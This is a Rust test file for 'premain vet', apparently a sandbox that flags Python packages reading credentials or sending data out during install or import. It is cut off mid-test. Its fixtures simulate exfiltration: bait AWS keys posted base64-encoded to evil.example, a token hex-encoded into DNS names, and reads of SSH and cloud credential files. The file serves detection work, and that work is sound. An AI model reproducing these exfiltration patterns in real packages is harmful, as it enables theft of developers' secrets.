//! The report from realistic runs: alerts shaped as premain prints them (README, "Alert
//! schema"), a capture as the sink records it.

use std::{
    path::PathBuf,
    time::{Duration, SystemTime},
};

use serde_json::{Value, json};

use super::*;
use crate::{
    output::time::rfc3339,
    vet::capture::{Capture, DnsQuery, Flow, Transport},
};

const HOME: &str = "/tmp/premain-vet-7f3a/home";
const VENV: &str = "/tmp/premain-vet-7f3a/venv";
const SITE: &str = "/tmp/premain-vet-7f3a/venv/lib/python3.12/site-packages";
const AWS_BAIT: &str = "AKIAPREMAINBAIT7Q2X/wJalrXUtnFEMIbaitK7MDENGbPxRfiCY";
const TOKEN_BAIT: &str = "ghp_premainBaitToken0123456789abcdef";

fn t0() -> SystemTime {
    SystemTime::UNIX_EPOCH + Duration::from_secs(1_796_000_000)
}

fn at(secs: f64) -> SystemTime {
    t0() + Duration::from_secs_f64(secs)
}

fn b64(data: &[u8]) -> String {
    const A: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for chunk in data.chunks(3) {
        let n = chunk.iter().enumerate().fold(0u32, |acc, (i, &b)| acc | u32::from(b) << (16 - 8 * i));
        for i in 0..4 {
            out.push(if i <= chunk.len() { char::from(A[(n >> (18 - 6 * i) & 63) as usize]) } else { '=' });
        }
    }
    out
}

fn step(kind: StepKind, target: &str, from: f64, to: f64) -> Step {
    Step {
        kind,
        target: Some(target.into()),
        exit_code: Some(0),
        timed_out: false,
        seconds: to - from,
        started: at(from),
        ended: at(to),
    }
}

fn input(inputs: &[&str], installed: &[(&str, &str)], steps: Vec<Step>) -> Input {
    Input {
        run: RunFacts {
            python_version: "3.12.8".into(),
            python_path: "/usr/bin/python3.12".into(),
            installer: "pip".into(),
            inputs: inputs.iter().map(|s| (*s).to_owned()).collect(),
            index_hosts: vec!["pypi.org".into(), "files.pythonhosted.org".into()],
            home: HOME.into(),
            venv: VENV.into(),
            started: t0(),
        },
        steps,
        installed: installed.iter().map(|(n, v)| ((*n).to_owned(), (*v).to_owned())).collect(),
        alerts: Vec::new(),
        baits: vec![
            Bait {
                kind: BaitKind::File {
                    category: "aws".into(),
                    path: PathBuf::from(HOME).join(".aws/credentials"),
                },
                value: AWS_BAIT.into(),
            },
            Bait { kind: BaitKind::Env { name: "GITHUB_TOKEN".into() }, value: TOKEN_BAIT.into() },
        ],
        capture: Capture::default(),
    }
}

/// An alert as premain prints it.
fn alert(id: &str, secs: f64, rule: &str, phase: &str, culprit: Value, action: Value) -> Value {
    json!({
        "kind": "alert", "schema": "premain.alert/v1", "id": id, "time": rfc3339(at(secs)),
        "node": "vet", "rule": rule, "severity": "critical", "phase": phase, "phase_basis": "probes",
        "culprit": culprit,
        "process": {"pid": 25930, "tid": 25930, "ppid": 25919, "exe": "/usr/bin/python3.12",
                    "cmdline": [format!("{VENV}/bin/python"), "-c", "import x"], "uid": 1000, "gid": 1000,
                    "comm": "python", "python": "3.12", "cgroup_id": 1, "start_time": rfc3339(at(secs - 0.5)),
                    "ancestry": []},
        "action": action, "inherited_from": null, "container": null, "kubernetes": null, "count": 1,
    })
}

fn setup_culprit(tmp: &str, dist: &str, version: &str) -> Value {
    let source = format!("/tmp/pip-install-{tmp}/{dist}_0c1d2e");
    json!({"kind": "setup", "party": "third-party", "path": format!("{source}/setup.py"), "module": null,
           "distribution": dist, "version": version, "hook": "get_requires_for_build_wheel",
           "backend": "setuptools.build_meta:__legacy__", "installer": "pip", "source_dir": source})
}

fn module_culprit(dist: &str, version: &str, module: &str) -> Value {
    let path = format!("{SITE}/{}/__init__.py", module.replace('.', "/"));
    json!({"kind": "module", "party": "third-party", "path": path, "module": module, "module_path": path,
           "distribution": dist, "version": version})
}

fn open(path: &str, category: &str) -> Value {
    json!({"type": "open", "path": path, "requested": null, "path_resolution": "kernel", "syscall": "openat",
           "dev": "254:0", "ino": 10051841, "flags": 524288, "category": category, "result": 4})
}

fn connect(kind: &str, addr: &str, port: u16) -> Value {
    let family = if addr.starts_with('[') { "inet6" } else { "inet" };
    json!({"type": kind, "addr": addr, "family": family, "port": port, "result": 0})
}

fn http_flow(secs: f64, dest: &str, host: &str, body: &str) -> Flow {
    let bytes = format!("POST /c HTTP/1.1\r\nHost: {host}\r\nContent-Length: {}\r\n\r\n{body}", body.len());
    Flow {
        transport: Transport::Tcp,
        source: "10.200.0.1:40000".parse().unwrap(),
        destination: dest.parse().unwrap(),
        first: at(secs),
        last: at(secs + 0.1),
        received: bytes.len() as u64,
        bytes: bytes.into_bytes(),
        relayed: None,
    }
}

fn dns(secs: f64, name: &str) -> DnsQuery {
    DnsQuery {
        at: at(secs),
        transport: Transport::Udp,
        source: "10.200.0.1:53000".parse().unwrap(),
        server: "127.0.0.53:53".parse().unwrap(),
        name: name.into(),
        qtype: 1,
    }
}

/// A setup.py that reads the AWS bait during install and posts it, base64, to evil.example.
fn malicious_install() -> Input {
    let mut input = input(
        &["evilpkg==1.0"],
        &[("evilpkg", "1.0"), ("requests", "2.31.0")],
        vec![
            step(StepKind::Install, "evilpkg==1.0", 0.0, 10.0),
            step(StepKind::Startup, "python", 10.0, 11.0),
            step(StepKind::Import, "evilpkg", 11.0, 12.0),
        ],
    );
    let culprit = setup_culprit("x8k2", "evilpkg", "1.0");
    input.alerts = vec![
        (
            0,
            alert(
                "a-1",
                2.0,
                "credential-read",
                "install",
                culprit.clone(),
                open(&format!("{HOME}/.aws/credentials"), "aws"),
            ),
        ),
        (
            0,
            alert(
                "a-2",
                2.5,
                "network-connect",
                "install",
                culprit.clone(),
                connect("connect", "192.0.2.1:443", 443),
            ),
        ),
        // Folded re-print of a-1: three reads in all.
        (0, {
            let mut a = alert(
                "a-1",
                2.0,
                "credential-read",
                "install",
                culprit,
                open(&format!("{HOME}/.aws/credentials"), "aws"),
            );
            a["count"] = 3.into();
            a["folded"] = true.into();
            a
        }),
        // The same read from the next hook pip runs: the same finding.
        (0, {
            let mut culprit = setup_culprit("x8k2", "evilpkg", "1.0");
            culprit["hook"] = "build_wheel".into();
            alert(
                "a-3",
                4.0,
                "credential-read",
                "install",
                culprit,
                open(&format!("{HOME}/.aws/credentials"), "aws"),
            )
        }),
    ];
    input.capture.dns = vec![dns(2.4, "evil.example"), dns(0.5, "pypi.org")];
    input.capture.flows =
        vec![http_flow(2.51, "192.0.2.1:443", "evil.example", &format!("d={}", b64(AWS_BAIT.as_bytes())))];
    input
}

fn findings<'a>(report: &'a Report, name: &str) -> &'a DistributionReport {
    report.distributions.iter().find(|d| d.name.as_deref() == Some(name)).expect(name)
}

#[test]
fn malicious_setup_py_reads_and_sends_the_bait() {
    let input = malicious_install();
    let report = Report::build(&input, &Policy::default());
    assert_eq!(report.verdict.status, Status::Fail);
    assert_eq!(report.exit_code(), 1);
    let evil = findings(&report, "evilpkg");
    assert_eq!(evil.version.as_deref(), Some("1.0"));
    assert_eq!(evil.verdict.status, Status::Fail);
    let rules: Vec<(&str, &str)> =
        evil.findings.iter().map(|f| (f.rule.as_str(), f.phase.as_str())).collect();
    assert_eq!(
        rules,
        [("credential-read", "install"), ("network-connect", "install"), ("exfiltration", "install")]
    );
    let read = &evil.findings[0];
    assert_eq!(read.culprit.path.as_deref(), Some("<source>/setup.py"));
    assert_eq!(read.culprit.kind, "setup");
    assert_eq!(read.target.text, "~/.aws/credentials");
    assert_eq!(read.target.category.as_deref(), Some("aws"));
    assert_eq!(read.count, 4, "the folded re-print counts, once");
    assert_eq!(read.culprit.hooks, ["get_requires_for_build_wheel", "build_wheel"]);
    assert_eq!(read.steps, [0]);
    assert_eq!(read.level, Level::Error);
    let connect = &evil.findings[1];
    assert_eq!(
        (connect.target.text.as_str(), connect.target.host.as_deref()),
        ("192.0.2.1:443", Some("evil.example"))
    );
    let leak = &evil.findings[2];
    assert_eq!(leak.level, Level::Error);
    assert!(leak.fails);
    assert_eq!(leak.culprit.path.as_deref(), Some("<source>/setup.py"));
    assert_eq!(leak.target.bait.as_deref(), Some("~/.aws/credentials"));
    assert_eq!(leak.target.encoding.as_deref(), Some("base64"));
    assert_eq!(leak.target.host.as_deref(), Some("evil.example"));

    let requests = findings(&report, "requests");
    assert_eq!((requests.verdict.status, requests.findings.len()), (Status::Pass, 0));

    let aws = &report.baits[0];
    assert_eq!((aws.kind.as_str(), aws.name.as_str()), ("file", "~/.aws/credentials"));
    assert_eq!(aws.touched.len(), 1);
    assert_eq!(aws.touched[0].distribution.as_deref(), Some("evilpkg"));
    assert_eq!(aws.touched[0].count, 4);
    assert_eq!(aws.leaked.len(), 1);
    assert_eq!(aws.leaked[0].channel, "flow");
    assert_eq!(aws.leaked[0].distributions, ["evilpkg"]);
    assert_eq!(aws.leaked[0].step, Some(0));
    let token = &report.baits[1];
    assert!(token.touched.is_empty() && token.leaked.is_empty());

    assert_eq!(report.destinations.len(), 1);
    let d = &report.destinations[0];
    assert_eq!(
        (d.address.as_str(), d.hosts.as_slice(), d.leaked, d.index),
        ("192.0.2.1:443", &["evil.example".to_owned()][..], true, false)
    );
    let names: Vec<(&str, bool)> = report.dns.iter().map(|n| (n.name.as_str(), n.index)).collect();
    assert_eq!(names, [("evil.example", false), ("pypi.org", true)]);

    // Nothing of the bait value, the run's temporary directories or pids is written.
    let json = report.to_json();
    for secret in [AWS_BAIT, &b64(AWS_BAIT.as_bytes()), TOKEN_BAIT, "7f3a", "x8k2", "25930"] {
        assert!(!json.contains(secret), "{secret} in {json}");
    }
    let table = report.to_table(false);
    let first = table.lines().next().unwrap();
    assert!(first.starts_with("FAIL") && first.contains("evilpkg 1.0"), "{table}");
    assert!(table.contains("exfiltration") && table.contains("LEAKED"), "{table}");
    assert!(!table.contains('\x1b'));
    assert!(report.to_table(true).contains("\x1b[1;31mFAIL"));
}

#[test]
fn a_benign_run_passes() {
    let mut input = input(
        &["requests==2.31.0"],
        &[("requests", "2.31.0"), ("urllib3", "2.2.1")],
        vec![
            step(StepKind::Install, "requests==2.31.0", 0.0, 5.0),
            step(StepKind::Import, "requests", 5.0, 6.0),
        ],
    );
    // pip's own downloads: runtime, no alerts; the capture has them.
    input.capture.dns = vec![dns(0.2, "pypi.org"), dns(0.4, "files.pythonhosted.org")];
    input.capture.flows = vec![http_flow(0.3, "192.0.2.1:443", "pypi.org", "")];
    let report = Report::build(&input, &Policy::default());
    assert_eq!(report.verdict, Verdict { status: Status::Pass, failing: 0, passing: 0 });
    assert_eq!(report.exit_code(), 0);
    assert_eq!(report.distributions.len(), 2);
    assert!(report.destinations[0].index);
    assert!(report.to_table(false).starts_with("PASS  premain vet: no findings"));
    assert_eq!(report.to_sarif()["runs"][0]["results"], json!([]));
}

#[test]
fn the_package_index_is_no_finding_anything_else_is() {
    let mut input = input(&["pkg"], &[("pkg", "1.0")], vec![step(StepKind::Import, "pkg", 0.0, 10.0)]);
    input.run.index_hosts.push("10.0.0.5:3141".into());
    let c = module_culprit("pkg", "1.0", "pkg");
    input.alerts = vec![
        // Through the sink's address, named by the flow's Host.
        (
            0,
            alert(
                "n-1",
                1.0,
                "network-connect",
                "import",
                c.clone(),
                connect("connect", "192.0.2.1:443", 443),
            ),
        ),
        // The index by address and port.
        (
            0,
            alert(
                "n-2",
                2.0,
                "network-connect",
                "import",
                c.clone(),
                connect("connect", "10.0.0.5:3141", 3141),
            ),
        ),
        // Its name asked of the resolver.
        (0, alert("n-3", 3.0, "network-send", "import", c.clone(), connect("send", "127.0.0.53:53", 53))),
        // Another name asked, another port of the index's address.
        (0, alert("n-4", 6.0, "network-send", "import", c.clone(), connect("send", "127.0.0.53:53", 53))),
        (0, alert("n-5", 7.0, "network-connect", "import", c.clone(), connect("connect", "10.0.0.5:22", 22))),
        // TLS through the sink's address: the index, then another host, told apart by SNI.
        (
            0,
            alert(
                "n-6",
                8.0,
                "network-connect",
                "import",
                c.clone(),
                connect("connect", "192.0.2.1:443", 443),
            ),
        ),
        (0, alert("n-7", 9.0, "network-connect", "import", c, connect("connect", "192.0.2.1:443", 443))),
    ];
    let tls = |secs: f64, host: &str| {
        let mut flow = http_flow(secs, "192.0.2.1:443", "", "");
        flow.bytes = super::network::client_hello(host);
        flow
    };
    input.capture.flows = vec![
        http_flow(1.01, "192.0.2.1:443", "pypi.org", ""),
        tls(8.01, "files.pythonhosted.org"),
        tls(9.01, "evil.example"),
    ];
    input.capture.dns = vec![dns(3.01, "pypi.org"), dns(6.01, "telemetry.evil.example")];
    let report = Report::build(&input, &Policy::default());
    let pkg = findings(&report, "pkg");
    let targets: Vec<(&str, &str, Option<&str>)> = pkg
        .findings
        .iter()
        .map(|f| (f.rule.as_str(), f.target.text.as_str(), f.target.host.as_deref()))
        .collect();
    assert_eq!(
        targets,
        [
            ("network-connect", "10.0.0.5:22", None),
            ("network-connect", "192.0.2.1:443", Some("evil.example")),
            ("network-send", "127.0.0.53:53", Some("telemetry.evil.example"))
        ]
    );
    assert_eq!(pkg.findings[2].target.kind, TargetKind::DnsName);
    let sink = report.destinations.iter().find(|d| d.address == "192.0.2.1:443").unwrap();
    assert_eq!(sink.hosts, ["evil.example", "files.pythonhosted.org", "pypi.org"]);
    assert!(!sink.index, "not only the index was reached there");
    // 10.0.0.5:22 and :3141 only alerts name: listed, the index one marked.
    let listed: Vec<(&str, bool)> =
        report.destinations.iter().map(|d| (d.address.as_str(), d.index)).collect();
    assert!(
        listed.contains(&("10.0.0.5:3141", true)) && listed.contains(&("10.0.0.5:22", false)),
        "{listed:?}"
    );
}

#[test]
fn connections_the_sink_relayed_to_the_index_are_no_finding_a_bait_sent_there_is() {
    let mut input = input(&["pkg"], &[("pkg", "1.0")], vec![step(StepKind::Import, "pkg", 0.0, 10.0)]);
    input.run.index_hosts = vec!["mirror.example:443".into(), "127.0.0.1:8080".into()];
    let c = module_culprit("pkg", "1.0", "pkg");
    let connect_at = |id: &str, secs: f64, addr: &str, port: u16| {
        (0, alert(id, secs, "network-connect", "import", c.clone(), connect("connect", addr, port)))
    };
    input.alerts = vec![
        // The index's own address in the namespace, TLS with no SNI: relayed, so the index.
        connect_at("r-1", 1.0, "192.0.2.2:443", 443),
        // The index at its loopback address and port.
        connect_at("r-2", 2.0, "127.0.0.1:8080", 8080),
        // The index's address on another port: the sink took it.
        connect_at("r-3", 3.0, "192.0.2.2:80", 80),
    ];
    let relayed = |secs: f64, dest: &str, label: &str, body: &str| {
        let mut flow = http_flow(secs, dest, "mirror.example", body);
        flow.relayed = Some(label.into());
        flow
    };
    let mut tls = relayed(1.01, "192.0.2.2:443", "mirror.example:443", "");
    tls.bytes = vec![0x16, 3, 1, 0, 4, 2, 0, 0, 0];
    tls.received = 9;
    input.capture.flows = vec![
        tls,
        // A bait sent to an http index in the clear is still seen leaving.
        relayed(2.01, "127.0.0.1:8080", "127.0.0.1:8080", &format!("token={TOKEN_BAIT}")),
        http_flow(3.01, "192.0.2.2:80", "mirror.example", ""),
    ];
    let report = Report::build(&input, &Policy::default());
    let pkg = findings(&report, "pkg");
    let targets: Vec<(&str, &str)> =
        pkg.findings.iter().map(|f| (f.rule.as_str(), f.target.text.as_str())).collect();
    assert_eq!(targets, [("network-connect", "192.0.2.2:80"), ("exfiltration", "127.0.0.1:8080")]);
    let marks: Vec<(&str, bool, bool)> =
        report.destinations.iter().map(|d| (d.address.as_str(), d.index, d.relayed)).collect();
    assert_eq!(
        marks,
        [("127.0.0.1:8080", true, true), ("192.0.2.2:443", true, true), ("192.0.2.2:80", false, false)]
    );
    let table = report.to_table(false);
    assert!(table.contains("192.0.2.2:443  1 flow(s), 9 bytes  (index, relayed)"), "{table}");
    let json = report.to_json();
    let back = Report::from_json(&json).unwrap();
    assert!(back.destinations[0].relayed);
    let mut old: Value = serde_json::from_str(&json).unwrap();
    for d in old["destinations"].as_array_mut().unwrap() {
        d.as_object_mut().unwrap().remove("relayed");
    }
    let old = Report::from_json(&old.to_string()).expect("a report from before relaying reads");
    assert!(!old.destinations[0].relayed);
}

#[test]
fn a_policy_allows_a_rule_for_one_distribution() {
    let mut input = input(
        &["grpcio", "evil"],
        &[("grpcio", "1.66.0"), ("evil", "0.1")],
        vec![step(StepKind::Install, "grpcio evil", 0.0, 60.0)],
    );
    let exec = |path: &str| json!({"type": "exec", "path": path, "argv": [path, "-c", "echo"], "result": 0});
    input.alerts = vec![
        (
            0,
            alert(
                "e-1",
                5.0,
                "program-exec",
                "install",
                setup_culprit("g1", "grpcio", "1.66.0"),
                exec("/bin/sh"),
            ),
        ),
        (
            0,
            alert("e-2", 6.0, "program-exec", "install", setup_culprit("e1", "evil", "0.1"), exec("/bin/sh")),
        ),
    ];
    let policy = Policy::parse("vet.toml", "[distribution.GrpcIO]\nallow = [\"program-exec\"]\n").unwrap();
    let report = Report::build(&input, &policy);
    let grpc = findings(&report, "grpcio");
    assert_eq!(grpc.verdict.status, Status::Pass);
    assert!(!grpc.findings[0].fails);
    assert_eq!(grpc.findings[0].allowed.as_deref(), Some("allowed for grpcio"));
    assert_eq!(findings(&report, "evil").verdict.status, Status::Fail);
    assert_eq!(report.verdict, Verdict { status: Status::Fail, failing: 1, passing: 1 });
    assert_eq!(report.programs.len(), 1);
    assert_eq!(report.programs[0].distributions, ["evil", "grpcio"]);
    assert_eq!(report.programs[0].count, 2);

    // Allowed for both: passes, and SARIF says the allowed result is suppressed.
    let both = Policy::parse("vet.toml", "[distribution.grpcio]\nallow = [\"program-exec\"]\n[distribution.evil]\nallow = [\"program-exec\"]\n").unwrap();
    let report = Report::build(&input, &both);
    assert_eq!(report.exit_code(), 0);
    let sarif = report.to_sarif();
    assert_eq!(sarif["runs"][0]["results"][0]["suppressions"][0]["kind"], "external");
    assert_eq!(report.policy.file.as_deref(), Some("vet.toml"));

    // A rule turned off is not reported at all.
    let off = Policy::parse("vet.toml", "[levels]\nprogram-exec = \"off\"\n").unwrap();
    let report = Report::build(&input, &off);
    assert_eq!(report.verdict, Verdict { status: Status::Pass, failing: 0, passing: 0 });
    assert!(
        report.to_sarif()["runs"][0]["tool"]["driver"]["rules"]
            .as_array()
            .unwrap()
            .iter()
            .all(|r| r["id"] != "program-exec")
    );
}

/// A run of `pkg` at `version` in its own temporary directories; `ssh` adds a read of `~/.ssh/id_rsa`.
fn upgrade_run(version: &str, tmp: &str, ssh: bool) -> Report {
    let home = format!("/tmp/premain-vet-{tmp}/home");
    let venv = format!("/tmp/premain-vet-{tmp}/venv");
    let site = format!("{venv}/lib/python3.12/site-packages");
    let mut input = input(
        &[&format!("litellm=={version}")],
        &[("litellm", version)],
        vec![step(StepKind::Import, "litellm", 0.0, 5.0)],
    );
    input.run.home = home.clone().into();
    input.run.venv = venv.into();
    input.baits.clear();
    let culprit = json!({"kind": "pth", "party": "third-party", "path": format!("{site}/litellm_init.pth"),
                         "module": "litellm._boot", "module_path": format!("{site}/litellm/_boot.py"),
                         "distribution": "litellm", "version": version});
    input.alerts.push((
        0,
        alert(
            &format!("{tmp}-1"),
            1.0,
            "credential-read",
            "startup",
            culprit.clone(),
            open(&format!("{home}/.config/gcloud/credentials.db"), "gcloud"),
        ),
    ));
    if ssh {
        input.alerts.push((
            0,
            alert(
                &format!("{tmp}-2"),
                1.5,
                "credential-read",
                "startup",
                culprit,
                open(&format!("{home}/.ssh/id_rsa"), "ssh"),
            ),
        ));
    }
    Report::build(&input, &Policy::default())
}

#[test]
fn a_baseline_keeps_only_what_is_new() {
    let old = upgrade_run("1.82.6", "aaaa", false);
    let new = upgrade_run("1.82.8", "bbbb", true);
    assert_eq!(findings(&new, "litellm").findings.len(), 2);
    let read_back = Report::from_json(&old.to_json()).expect("a report reads back");
    assert_eq!(read_back, old);
    let diff = new.new_against(&read_back, Some("old.json"));
    let litellm = findings(&diff, "litellm");
    assert_eq!(litellm.version.as_deref(), Some("1.82.8"));
    assert_eq!(litellm.findings.len(), 1);
    assert_eq!(litellm.findings[0].target.text, "~/.ssh/id_rsa");
    assert_eq!(litellm.findings[0].culprit.path.as_deref(), Some("<site-packages>/litellm_init.pth"));
    assert_eq!(diff.verdict, Verdict { status: Status::Fail, failing: 1, passing: 0 });
    let comparison = diff.baseline.as_ref().unwrap();
    assert_eq!(comparison.known, 1);
    assert_eq!(comparison.distributions, ["litellm 1.82.6"]);
    assert_eq!(comparison.file.as_deref(), Some("old.json"));
    assert!(diff.to_table(false).contains("new against old.json (litellm 1.82.6): 1 known"));
    assert!(Report::from_json(&diff.to_json()).unwrap().baseline.is_some());

    // Nothing new: the upgrade passes.
    let same = upgrade_run("1.82.7", "cccc", false).new_against(&old, None);
    assert_eq!(same.exit_code(), 0);
    assert_eq!(findings(&same, "litellm").findings.len(), 0);

    assert!(
        Report::from_json("{\"schema\": \"premain.alert/v1\"}").unwrap_err().contains("premain.alert/v1")
    );
    assert!(Report::from_json("[").is_err());
}

#[test]
fn sarif_is_well_formed() {
    let mut input = malicious_install();
    // An import-time finding in site-packages and one no distribution owns.
    input.alerts.push((2, alert("m-1", 11.5, "persistence", "import", module_culprit("evilpkg", "1.0", "evilpkg"),
        json!({"type": "open", "path": format!("{HOME}/.bashrc"), "syscall": "openat", "flags": 577, "category": "shell-rc", "result": 3}))));
    input.alerts.push((2, alert("m-2", 11.6, "io-uring", "import", json!({"kind": "unknown", "party": "unknown", "path": null, "module": null, "distribution": null, "version": null}),
        json!({"type": "io-uring", "opcode": "IORING_OP_READ", "result": 0}))));
    let report = Report::build(&input, &Policy::default());
    let unknown = report.distributions.iter().find(|d| d.name.is_none()).expect("an input group");
    assert_eq!(unknown.input.as_deref(), Some("evilpkg==1.0"));
    assert_eq!(unknown.findings[0].level, Level::Warning);

    let sarif: Value = serde_json::from_str(&report.to_sarif_string()).unwrap();
    assert_eq!(sarif["version"], "2.1.0");
    assert_eq!(sarif["$schema"], SARIF_SCHEMA);
    let runs = sarif["runs"].as_array().unwrap();
    assert_eq!(runs.len(), 1);
    let run = &runs[0];
    assert_eq!(run["tool"]["driver"]["name"], "premain vet");
    let rules = run["tool"]["driver"]["rules"].as_array().unwrap();
    assert_eq!(rules.len(), 9);
    let levels = ["none", "note", "warning", "error"];
    for rule in rules {
        assert!(rule["id"].is_string() && rule["shortDescription"]["text"].is_string(), "{rule}");
        assert!(levels.contains(&rule["defaultConfiguration"]["level"].as_str().unwrap()));
    }
    let results = run["results"].as_array().unwrap();
    assert_eq!(results.len(), 5);
    let bases = run["originalUriBaseIds"].as_object().unwrap();
    for result in results {
        let index = result["ruleIndex"].as_u64().unwrap() as usize;
        assert_eq!(rules[index]["id"], result["ruleId"]);
        assert!(levels.contains(&result["level"].as_str().unwrap()));
        assert!(!result["message"]["text"].as_str().unwrap().is_empty());
        let artifact = &result["locations"][0]["physicalLocation"]["artifactLocation"];
        let uri = artifact["uri"].as_str().unwrap();
        assert!(!uri.is_empty() && !uri.contains(' ') && !uri.contains('<'), "{uri}");
        if let Some(base) = artifact["uriBaseId"].as_str() {
            assert!(bases.contains_key(base), "{base}");
        }
        assert_eq!(result["partialFingerprints"]["premainVet/v1"].as_str().unwrap().len(), 16);
    }
    let by_rule = |rule: &str| results.iter().find(|r| r["ruleId"] == rule).unwrap();
    assert_eq!(
        by_rule("credential-read")["locations"][0]["physicalLocation"]["artifactLocation"],
        json!({"uri": "setup.py", "uriBaseId": "SRCROOT"})
    );
    assert_eq!(
        by_rule("persistence")["locations"][0]["physicalLocation"]["artifactLocation"],
        json!({"uri": "evilpkg/__init__.py", "uriBaseId": "SITE_PACKAGES"})
    );
    assert_eq!(by_rule("io-uring")["level"], "warning");
    assert_eq!(
        by_rule("io-uring")["locations"][0]["physicalLocation"]["artifactLocation"]["uri"],
        "evilpkg%3D%3D1.0"
    );
    assert!(by_rule("exfiltration")["message"]["text"].as_str().unwrap().contains("base64"));
}

#[test]
fn a_leak_is_put_down_to_the_step_running_then() {
    let mut input = input(
        &["quiet"],
        &[("quiet", "2.0")],
        vec![step(StepKind::Install, "quiet", 0.0, 5.0), step(StepKind::Import, "quiet", 5.0, 8.0)],
    );
    let hex: String = TOKEN_BAIT.bytes().map(|b| format!("{b:02x}")).collect();
    // The env bait, hex in a DNS name while `quiet` was imported: no alert names the query.
    input.capture.dns = vec![dns(6.0, &format!("{}.{}.x.evil.test", &hex[..40], &hex[40..]))];
    // The AWS bait raw in a flow after every step: the run's.
    input.capture.flows = vec![http_flow(20.0, "192.0.2.1:80", "collect.evil.test", AWS_BAIT)];
    let report = Report::build(&input, &Policy::default());
    let quiet = findings(&report, "quiet");
    assert_eq!(quiet.findings.len(), 1);
    let leak = &quiet.findings[0];
    assert_eq!((leak.rule.as_str(), leak.phase.as_str()), ("exfiltration", "import"));
    assert_eq!(leak.target.text, "*.evil.test");
    assert_eq!(leak.target.bait.as_deref(), Some("GITHUB_TOKEN"));
    assert_eq!(leak.target.encoding.as_deref(), Some("hex"));
    let run = report.distributions.iter().find(|d| d.name.is_none()).unwrap();
    assert_eq!(run.input.as_deref(), Some("quiet"));
    assert_eq!(run.findings[0].target.host.as_deref(), Some("collect.evil.test"));
    assert_eq!(run.findings[0].phase, "unknown");
    assert_eq!(report.baits[1].leaked[0].channel, "dns");
    assert!(report.dns[0].leaked);
    assert_eq!(report.exit_code(), 1);
}

#[test]
fn missing_fields_are_tolerated() {
    let mut input = input(&["x"], &[], vec![step(StepKind::Startup, "python", 0.0, 1.0)]);
    input.alerts = vec![
        (
            0,
            json!({"rule": "raw-socket", "phase": "startup", "action": {"type": "socket", "family": "packet", "socket_type": "raw"}}),
        ),
        (
            0,
            json!({"rule": "process-memory", "culprit": {"kind": "pth", "distribution": "snoop"},
                   "action": {"type": "process-memory", "target_pid": 1, "via": "proc-mem", "path": "/proc/1/mem"}}),
        ),
        (
            0,
            json!({"rule": "network-connect", "action": {"type": "connect", "addr": "/run/evil.sock", "family": "unix"}}),
        ),
        (0, json!({"kind": "loss", "hook": "open", "count": 1})),
        (0, json!("not an object")),
    ];
    let report = Report::build(&input, &Policy::default());
    let snoop = findings(&report, "snoop");
    assert_eq!(snoop.version, None);
    assert_eq!(snoop.findings[0].target.text, "/proc/<pid>/mem (proc-mem)");
    let run = report.distributions.iter().find(|d| d.name.is_none()).unwrap();
    let targets: Vec<&str> = run.findings.iter().map(|f| f.target.text.as_str()).collect();
    assert_eq!(targets, ["packet raw", "unix:/run/evil.sock"]);
    assert!(report.destinations.iter().any(|d| d.transport == "unix" && d.address == "/run/evil.sock"));
    report.to_table(false);
    report.to_sarif();
}

#[test]
fn the_readme_policy_example_parses() {
    let readme = include_str!("../../../../README.md");
    let section = &readme[readme.find("### The report").expect("premain vet's report section")..];
    let start = section.find("```toml\n").expect("a policy example") + "```toml\n".len();
    let example = &section[start..start + section[start..].find("```").unwrap()];
    let policy = Policy::parse("README.md", example).unwrap();
    assert_eq!(policy.level("io-uring"), Some(Level::Note));
    assert!(policy.excuse(Some("grpcio"), "program-exec", Level::Error).is_some());
}

#[test]
fn formats_and_alert_lines() {
    let lines = format!(
        "premain: ready\n{}\n{{\"kind\":\"loss\",\"hook\":\"open\",\"count\":1}}\n\n[1]\n",
        alert("l-1", 1.0, "io-uring", "startup", json!({"kind": "pth"}), json!({"type": "io-uring"}))
    );
    let alerts = alerts_from_lines(3, &lines);
    assert_eq!(alerts.len(), 2, "the alert and the loss record; the loss is skipped later");
    assert!(alerts.iter().all(|(step, _)| *step == 3));
    let report = Report::build(&malicious_install(), &Policy::default());
    assert_eq!("sarif".parse::<Format>(), Ok(Format::Sarif));
    assert!("xml".parse::<Format>().unwrap_err().contains("table, json, sarif"));
    assert!(report.render(Format::Table, false).starts_with("FAIL"));
    assert_eq!(Report::from_json(&report.render(Format::Json, false)).unwrap(), report);
    assert!(report.render(Format::Sarif, false).contains("\"version\": \"2.1.0\""));
}

#[test]
fn a_distribution_has_its_own_levels() {
    let mut input = input(
        &["sniffer", "other"],
        &[("sniffer", "1.0"), ("other", "1.0")],
        vec![step(StepKind::Import, "sniffer", 0.0, 1.0)],
    );
    let raw =
        json!({"type": "socket", "family": "packet", "socket_type": "raw", "protocol": 768, "result": 3});
    input.alerts = vec![
        (
            0,
            alert(
                "r-1",
                0.5,
                "raw-socket",
                "import",
                module_culprit("sniffer", "1.0", "sniffer"),
                raw.clone(),
            ),
        ),
        (0, alert("r-2", 0.6, "raw-socket", "import", module_culprit("other", "1.0", "other"), raw)),
    ];
    let policy = Policy::parse(
        "vet.toml",
        "[levels]\nraw-socket = \"off\"\n[distribution.sniffer]\nlevels = { raw-socket = \"note\" }\n",
    )
    .unwrap();
    let report = Report::build(&input, &policy);
    let sniffer = findings(&report, "sniffer");
    assert_eq!((sniffer.findings[0].level, sniffer.findings[0].fails), (Level::Note, false));
    assert_eq!(sniffer.findings[0].allowed.as_deref(), Some("below fail_on (warning)"));
    assert!(findings(&report, "other").findings.is_empty(), "off for everyone else");
    assert_eq!(report.exit_code(), 0);
    let sarif = report.to_sarif();
    let run = &sarif["runs"][0];
    let index = run["results"][0]["ruleIndex"].as_u64().unwrap() as usize;
    assert_eq!(run["tool"]["driver"]["rules"][index]["id"], "raw-socket");
    assert_eq!(run["tool"]["driver"]["rules"][index]["defaultConfiguration"]["level"], "none");
    assert_eq!(run["results"][0]["level"], "note");
    assert_eq!(Report::from_json(&report.to_json()).unwrap(), report);
}

#[test]
fn a_leak_no_alert_made_is_put_down_to_the_network_findings_of_its_step() {
    let mut input = input(
        &["-r", "requirements.txt"],
        &[("a", "1.0"), ("b", "2.0")],
        vec![step(StepKind::Install, "-r requirements.txt", 0.0, 60.0)],
    );
    input.alerts = vec![
        // a reaches the index (no finding, so no blame); b connects somewhere else.
        (
            0,
            alert(
                "i-1",
                1.0,
                "network-connect",
                "install",
                setup_culprit("q1", "a", "1.0"),
                connect("connect", "192.0.2.1:443", 443),
            ),
        ),
